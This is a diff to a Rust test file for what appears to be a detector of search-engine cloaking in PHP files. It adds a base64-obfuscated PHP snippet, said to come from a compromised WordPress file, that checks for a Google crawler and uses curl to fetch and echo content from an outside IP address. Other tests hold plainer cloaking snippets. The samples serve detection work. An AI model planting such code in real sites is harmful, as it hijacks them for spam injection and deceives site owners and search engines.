@@ -349,6 +349,15 @@ fn search_engine_cloaking_is_found() {
     assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
     let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
     assert_eq!(found(bare), [Why::SearchEngineCloaking]);
+    // fresh40's `wp-includes/index.php`: the crawler's name and the address's parts kept in
+    // base64 (`Z29vZ2xl` is `google`).
+    let encoded = r#"<?php $u = base64_decode("Li4u") . mb_strtolower($_SERVER[HTTP_USER_AGENT]);
+        if (mb_stripos($u, base64_decode("Z29vZ2xl"))) { $a = base64_decode("MTc2"); $p = base64_decode("Y2FrZXM=");
+        $c = curl_init(); curl_setopt($c, CURLOPT_URL, "http://$a.31.253.227/$p/?useragent=$u&domain=$_SERVER[HTTP_HOST]");
+        $o = curl_exec($c); curl_close($c); echo $o; }"#;
+    assert_eq!(found(encoded), [Why::SearchEngineCloaking]);
+    // The same with a word that names no crawler (`ZmlyZWZveA==` is `firefox`).
+    assert!(found(&encoded.replace("Z29vZ2xl", "ZmlyZWZveA==")).is_empty());
     // A cache that skips crawlers fetches nothing.
     let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
     assert!(found(cache).is_empty());
